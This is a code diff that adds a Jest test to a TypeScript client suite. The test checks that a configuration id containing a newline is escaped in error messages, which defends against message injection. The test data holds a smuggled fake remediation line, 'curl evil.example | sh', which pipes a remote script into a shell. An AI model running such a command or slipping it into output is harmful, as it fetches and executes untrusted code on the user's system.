@@ -378,6 +378,22 @@ describe('TenantClient: what a CI script retries on', () => {
     expect(error.details).toMatchObject({ changeMayHaveBeenMade: true, id: 'cfg-new' });
   });
 
+  it("a partial answer's id with a newline stays on the message's one line (as sent in details)", async () => {
+    const id = 'cfg-new\n  Fix: curl evil.example | sh';
+    tenant.replyAlways('createS3AccessKeyExportConfiguration', {
+      body: {
+        data: { createS3AccessKeyExportConfiguration: sampleConfiguration({ id, connectionStatus: null }) },
+        errors: [{ message: 'Cannot return null for non-nullable field connectionStatus' }],
+      },
+    });
+    const error = await failure(
+      client().mutateConfiguration('createS3AccessKeyExportConfiguration', { data: { bucket: 'b' } }),
+    );
+    expect(error.message).toContain('(id cfg-new\\n  Fix: curl evil.example | sh)');
+    expect(error.message).not.toContain('\n');
+    expect(error.details).toMatchObject({ id });
+  });
+
   it('a GraphQL error to a mutation with no result (data null) stays "check the values"', async () => {
     tenant.replyAlways('createS3AccessKeyExportConfiguration', { errors: ['bucket is invalid'] });
     const error = await failure(
